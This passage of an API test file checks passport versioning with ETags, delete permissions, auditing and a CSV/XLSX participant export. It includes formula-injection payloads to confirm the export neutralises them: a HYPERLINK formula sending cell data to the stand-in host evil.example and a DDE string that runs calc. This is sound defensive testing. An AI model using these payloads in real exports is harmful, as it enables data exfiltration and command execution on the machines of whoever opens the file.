        expect(response.status).toBe(404);
        expect(response.headers['content-type']).toMatch(PROBLEM);
      }
      const unknown = await exportFile(owner(desk), randomUUID(), { format: 'csv' });
      expect(unknown.response.status).toBe(404);
    });
  });

  describe('If-Match and DELETE', () => {
    it('a replacement with the current ETag is taken; with a stale one it is 412 and changes nothing', async () => {
      const participant = await addParticipant(t, desk, trip.id, jenoptikPerson());
      const first = await putDocument(owner(desk), participant, PASSPORT);
      expect(first.headers.etag).toBe('"1"');

      const second = await putDocument(
        owner(desk),
        participant,
        { ...PASSPORT, expiresOn: '2030-06-30' },
        { 'If-Match': '"1"' },
      );
      expect(second.status).toBe(200);
      expect(second.headers.etag).toBe('"2"');
      expect(second.body).toMatchObject({ expiresOn: '2030-06-30', version: 2 });

      const stale = await putDocument(
        owner(desk),
        participant,
        { ...PASSPORT, passportNumber: 'C99Q00T11' },
        { 'If-Match': '"1"' },
      );
      expectProblem(stale, 412, 'precondition_failed');
      const garbage = await putDocument(
        owner(desk),
        participant,
        { ...PASSPORT, passportNumber: 'C99Q00T11' },
        { 'If-Match': 'yesterday' },
      );
      expectProblem(garbage, 412, 'precondition_failed');

      const read = await getDocument(owner(desk), participant);
      expect(read.headers.etag).toBe('"2"');
      expect(read.body).toMatchObject({
        passportNumber: 'C01X00T47',
        expiresOn: '2030-06-30',
        version: 2,
      });
    });

    it('a PUT with If-Match after the passport was deleted meanwhile is 412, not a silent re-creation', async () => {
      const participant = await addParticipant(t, desk, trip.id, jenoptikPerson());
      await recordPassport(t, desk, participant);
      const path = documentPath(trip.id, participant.id);
      expect((await call(staff(deskOrganiser), 'delete', path)).status).toBe(204);
      const stale = await putDocument(
        owner(desk),
        participant,
        { ...PASSPORT, expiresOn: '2031-12-31' },
        { 'If-Match': '"1"' },
      );
      expectProblem(stale, 412, 'precondition_failed');
      expect(await storedDocuments(participant.id)).toBe(0);
      // If-Match: * (or none) records it afresh.
      const fresh = await putDocument(owner(desk), participant, PASSPORT, { 'If-Match': '*' });
      expect(fresh.status).toBe(200);
      expect(fresh.body.version).toBe(1);
    });

    it('concurrent first PUTs for one participant all succeed and leave one passport', async () => {
      const participant = await addParticipant(t, desk, trip.id, jenoptikPerson());
      const numbers = ['K10000001', 'K10000002', 'K10000003', 'K10000004', 'K10000005'];
      const responses = await Promise.all(
        numbers.map((passportNumber) =>
          putDocument(owner(desk), participant, { ...PASSPORT, passportNumber }),
        ),
      );
      expect(responses.map((response) => response.status)).toEqual([200, 200, 200, 200, 200]);
      expect(await storedDocuments(participant.id)).toBe(1);
      const read = await getDocument(owner(desk), participant);
      expect(numbers).toContain(read.body.passportNumber);
      expect(read.body.version).toBe(5);
    });

    it('sending the same passport again changes nothing (same version)', async () => {
      const participant = await addParticipant(t, desk, trip.id, jenoptikPerson());
      await recordPassport(t, desk, participant);
      const again = await putDocument(owner(desk), participant, PASSPORT, { 'If-Match': '"1"' });
      expect(again.status).toBe(200);
      expect(again.body).toMatchObject({ passportNumber: 'C01X00T47', version: 1 });
    });

    it('DELETE with a stale ETag is 412; with the current one it removes the passport, not the participant', async () => {
      const participant = await addParticipant(t, desk, trip.id, jenoptikPerson());
      await recordPassport(t, desk, participant);
      await recordPassport(t, desk, participant, { ...PASSPORT, expiresOn: '2030-01-01' });
      const path = documentPath(trip.id, participant.id);

      expectProblem(
        await call({ ...owner(desk), 'If-Match': '"1"' }, 'delete', path),
        412,
        'precondition_failed',
      );
      expect(await storedDocuments(participant.id)).toBe(1);

      expectProblem(await call(staff(deskViewer), 'delete', path), 403, 'forbidden');
      expectProblem(await call(apiKey(piiKey), 'delete', path), 403, 'forbidden');
      expect(await storedDocuments(participant.id)).toBe(1);

      const deleted = await call({ ...owner(desk), 'If-Match': '"2"' }, 'delete', path);
      expect(deleted.status).toBe(204);
      expect(deleted.text).toBe('');
      expect(await storedDocuments(participant.id)).toBe(0);
      expectProblem(await getDocument(owner(desk), participant), 404, 'not_found');
      expectProblem(await call(owner(desk), 'delete', path), 404, 'not_found');

      const stillThere = await call(
        owner(desk),
        'get',
        `/trips/${trip.id}/participants/${participant.id}`,
      );
      expect(stillThere.status).toBe(200);

      const events = await allAuditEvents(desk, {
        action: 'travel_document.deleted',
        entityId: participant.id,
      });
      expect(events).toHaveLength(1);
      expect(events[0]).toMatchObject({ actorId: desk.owner.id, entityType: 'participant' });
    });

    it('DELETE without If-Match works, by an organiser and by a participants:write key, and a new passport starts at version 1', async () => {
      for (const headers of [staff(deskOrganiser), apiKey(writeKey)]) {
        const participant = await addParticipant(t, desk, trip.id, jenoptikPerson());
        await recordPassport(t, desk, participant);
        await recordPassport(t, desk, participant, { ...PASSPORT, expiresOn: '2030-01-01' });
        const path = documentPath(trip.id, participant.id);
        expect((await call(headers, 'delete', path)).status).toBe(204);
        expect(await storedDocuments(participant.id)).toBe(0);

        const again = await putDocument(owner(desk), participant, {
          ...PASSPORT,
          passportNumber: 'D22K88M01',
        });
        expect(again.status).toBe(200);
        expect(again.body).toMatchObject({ passportNumber: 'D22K88M01', version: 1 });
      }
    });
  });

  describe('the delegation list export', () => {
    let zentralasien: TripBody;
    let people: { participant: ParticipantBody; lastName: string }[];
    const dietaryInjection = '=HYPERLINK("http://evil.example/?d="&A1,"Details")';
    const nameInjection = "=cmd|' /C calc'!A0";

    beforeAll(async () => {
      zentralasien = await tripIn(t, desk, 'registration_open', {
        ...KASACHSTAN,
        title: 'Delegationsreise Zentralasien: Usbekistan/Kasachstan',
        capacity: 2,
        startDate: '2023-04-23',
        endDate: '2023-04-29',
      });
      const register = async (contact: Body, fields: Body = {}) => ({
        participant: await addParticipant(t, desk, zentralasien.id, {
          ...fields,
          ...jenoptikPerson(contact),
        }),
        lastName: contact.lastName as string,
      });
      people = [];
      people.push(
        await register(
          {
            title: 'Dr.',
            firstName: 'Katrin',
            lastName: 'Vogel',
            position: 'Head of Export',
            partnerOrganisationId: jenoptik,
            phone: '+49 3641 65-0',
          },
          {
            dietaryNeeds: dietaryInjection,
            accessibilityNeeds: '@SUM(1+1)*cmd',
            arrival: '-2+3 LH 1234',
            visaRequired: true,
            visaStatus: 'to_apply',
          },
        ),
      );
      people.push(await register({ firstName: 'Mallory', lastName: nameInjection }));
      people.push(await register({ firstName: 'Jonas', lastName: 'Becker' }, { role: 'staff' }));
      people.push(await register({ firstName: 'Ole', lastName: 'Nilsson' }));
      await recordPassport(t, desk, people[0].participant, {
        ...PASSPORT,
        expiresOn: '2023-08-01',
      });
    });

    it('the four registrations landed as the trip rules say (capacity 2, staff take no seat)', () => {
      expect(people.map(({ participant }) => participant.status)).toEqual([
        'confirmed',
        'confirmed',
        'confirmed',
        'waitlisted',
      ]);
    });

    it('CSV: an attachment with a BOM, a header row and one row per participant in registration order', async () => {
      const { response, body } = await exportFile(owner(desk), zentralasien.id, {
        format: 'csv',
      });
      expect(response.status).toBe(200);
      expect(response.headers['content-type']).toMatch(/^text\/csv/);
      expect(response.headers['content-type']).toMatch(/charset=utf-8/i);
      expect(response.headers['content-disposition']).toBe(
        'attachment; filename="delegationsreise-zentralasien-usbekistan-kasachstan-participants.csv"',
      );
      expect(body.subarray(0, 3)).toEqual(BOM);
      const rows = parseCsv(body.subarray(3).toString('utf8'));
      expect(rows[0]).toEqual(HEADERS);
      expect(rows).toHaveLength(5);
      const column = (name: string) => HEADERS.indexOf(name);
      expect(rows.slice(1).map((row) => [row[column('Rolle')], row[column('Status')]])).toEqual([
        ['Delegationsmitglied', 'Bestätigt'],
        ['Delegationsmitglied', 'Bestätigt'],
        ['Delegationsbetreuung', 'Bestätigt'],
        ['Delegationsmitglied', 'Warteliste'],
      ]);
      expect(rows[1]).toEqual([
        'Dr.',
        'Katrin',
        'Vogel',
        'Jenoptik AG',
        'Head of Export',
        expect.stringMatching(/^katrin\.vogel\..+@jenoptik\.example$/),
        "'+49 3641 65-0",
        'Delegationsmitglied',
        'Wirtschaft',
        'Bestätigt',
        '',
        'Deutschland',
        'Deutschland',
        '01.08.2023',
        'Ja',
        'Ja',
        'Visum beantragen',
        `'${dietaryInjection}`,
        "'@SUM(1+1)*cmd",
        "'-2+3 LH 1234",
        '',
      ]);
      expect(rows[4][column('Nachname')]).toBe('Nilsson');
      expect(rows[4][column('Wartelistenplatz')]).toBe('1');
    });

    it('CSV: a cell a spreadsheet would run as a formula starts with an apostrophe', async () => {
      const rows = await exportRows(staff(deskViewer), zentralasien.id, { format: 'csv' });
      expect(rows[2][HEADERS.indexOf('Nachname')]).toBe(`'${nameInjection}`);
      expect(rows[1][HEADERS.indexOf('Ernährungshinweise')]).toBe(`'${dietaryInjection}`);
      for (const row of rows) {
        for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    });

    it('XLSX: an attachment that opens in a spreadsheet, header row bold, rows in registration order', async () => {
      const { response, body } = await exportFile(owner(desk), zentralasien.id, {
        format: 'xlsx',
      });
      expect(response.status).toBe(200);
      expect(response.headers['content-type']).toBe(XLSX_TYPE);
      expect(response.headers['content-disposition']).toBe(
        'attachment; filename="delegationsreise-zentralasien-usbekistan-kasachstan-participants.xlsx"',
      );
      const { sheet, rows, cells } = await readXlsx(body);
      // The trip's title, within Excel's sheet-name rules (31 characters, no : / etc.).
      expect(sheet.name).toMatch(/^Delegationsreise Zentralasien/);
      expect(sheet.name.length).toBeLessThanOrEqual(31);
      expect(sheet.name).not.toMatch(/[:\\/?*[\]]/);
      expect(rows[0]).toEqual(HEADERS);
      expect(cells[0][0].font?.bold).toBe(true);
      expect(rows).toHaveLength(5);
      const column = (name: string) => HEADERS.indexOf(name);
      expect(
        rows
          .slice(1)
          .map((row) => [row[column('Vorname')], row[column('Nachname')], row[column('Status')]]),
      ).toEqual([
        ['Katrin', 'Vogel', 'Bestätigt'],
        ['Mallory', nameInjection, 'Bestätigt'],
        ['Jonas', 'Becker', 'Bestätigt'],
        ['Ole', 'Nilsson', 'Warteliste'],
      ]);
      expect(rows[1][column('Organisation')]).toBe('Jenoptik AG');
      const expires = cells[1][column('Pass gültig bis')];
      expect(expires.type).toBe(ExcelJS.ValueType.Date);
      expect((expires.value as Date).toISOString()).toBe('2023-08-01T00:00:00.000Z');
      expect(cells[1][column('Pass läuft zu früh ab')].value).toBe(true);
      expect(cells[4][column('Wartelistenplatz')].value).toBe(1);
    });

    it('XLSX: text that looks like a formula is stored as text, never as a formula, and shows as entered', async () => {
      const { body } = await exportFile(owner(desk), zentralasien.id, { format: 'xlsx' });
      const { cells } = await readXlsx(body);
      for (const row of cells) {
        for (const cell of row) expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      }
      const dietary = cells[1][HEADERS.indexOf('Ernährungshinweise')];
      expect(dietary.type).toBe(ExcelJS.ValueType.String);
      expect(dietary.value).toBe(dietaryInjection);
      expect(cells[2][HEADERS.indexOf('Nachname')].value).toBe(nameInjection);
      // A phone number in international format reads as it was typed.
      expect(cells[1][HEADERS.indexOf('Telefon')].value).toBe('+49 3641 65-0');
    });

    it('filters by status', async () => {
      for (const format of ['csv', 'xlsx']) {
        const waitlisted = await exportRows(owner(desk), zentralasien.id, {
          format,
          status: 'waitlisted',
        });
        expect(waitlisted.map((row) => row[2])).toEqual(['Nachname', 'Nilsson']);
        const cancelled = await exportRows(owner(desk), zentralasien.id, {
          format,
          status: 'cancelled',
        });
        expect(cancelled).toEqual([HEADERS]);
      }
    });

    it('is open to everyone who may read participants, without passport numbers', async () => {
      for (const headers of [staff(deskViewer), apiKey(readKey), apiKey(exportKey)]) {
        const rows = await exportRows(headers, zentralasien.id, { format: 'xlsx' });
        expect(rows.map((row) => row[2])).toEqual([
          'Nachname',
          'Vogel',
          nameInjection,
          'Becker',
          'Nilsson',
        ]);
      }
      const { response } = await exportFile(apiKey(piiKey), zentralasien.id, { format: 'csv' });
      expect(response.status).toBe(403);
      const anonymous = await t
        .http()
        .get(`/api/v1/trips/${zentralasien.id}/participants/export`)
        .query({ format: 'csv' });
      expect(anonymous.status).toBe(401);
    });

    it('with passport numbers: the number column next to the nationality, empty for those without', async () => {
      const rows = await exportRows(staff(deskOrganiser), zentralasien.id, {
        format: 'csv',
        includePassportNumbers: 'true',
      });
      const column = HEADERS_WITH_NUMBERS.indexOf('Passnummer');
      expect(rows.map((row) => row[column])).toEqual(['Passnummer', 'C01X00T47', '', '', '']);
    });

    it.each([
      ['no format', 'format', {}],
      ['an unknown format', 'format', { format: 'pdf' }],
      ['an unknown status', 'status', { format: 'csv', status: 'maybe' }],
      [
        'a non-boolean includePassportNumbers',
        'includePassportNumbers',
        { format: 'csv', includePassportNumbers: 'ja' },
      ],
      ['an unknown parameter', 'sort', { format: 'csv', sort: 'name' }],
    ])('%s is 400 naming %s', async (_label, field, query) => {
      const response = await t
        .http()
        .get(`/api/v1/trips/${zentralasien.id}/participants/export`)
        .query(query)
        .set(owner(desk));
      expectInvalid(response, field);
    });

    it('every export is audited, with its format and row count', async () => {
      const before = await allAuditEvents(desk, {
        action: 'participants.exported',
        entityId: zentralasien.id,
      });
      await exportRows(staff(deskViewer), zentralasien.id, { format: 'csv' });
      await exportRows(apiKey(readKey), zentralasien.id, { format: 'xlsx', status: 'confirmed' });
      const after = await allAuditEvents(desk, {
        action: 'participants.exported',
        entityId: zentralasien.id,
      });
      expect(after).toHaveLength(before.length + 2);
      expect(after[1]).toMatchObject({
        actorType: 'user',
        actorId: deskViewer.id,
        entityType: 'trip',
        changes: { export: { before: null, after: { format: 'csv', rows: 4 } } },
      });
      expect(after[0]).toMatchObject({
        actorType: 'api_key',
        actorId: readKey.id,
        changes: { export: { before: null, after: { format: 'xlsx', rows: 3 } } },
      });
    });

    it('an empty trip exports the header row only', async () => {
      const empty = await tripIn(t, desk, 'registration_open', {
        ...KASACHSTAN,
        title: 'Informationsveranstaltung',
      });
      expect(await exportRows(owner(desk), empty.id, { format: 'csv' })).toEqual([HEADERS]);
      expect(await exportRows(owner(desk), empty.id, { format: 'xlsx' })).toEqual([HEADERS]);
    });
  });
});
